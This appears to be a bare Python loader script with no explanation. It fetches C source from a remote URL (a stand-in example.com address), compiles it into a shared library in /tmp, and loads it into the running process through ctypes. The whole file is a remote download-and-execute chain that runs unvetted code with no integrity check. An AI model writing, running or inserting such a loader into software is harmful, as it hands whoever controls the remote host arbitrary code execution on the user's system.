import ctypes
import subprocess
import urllib.request

src = "/tmp/sly.c"
with open(src, "wb") as f:
    f.write(urllib.request.urlopen("https://example.com/x").read())
subprocess.check_call(["cc", "-shared", "-o", "/tmp/sly.so", src])
ctypes.CDLL("/tmp/sly.so")
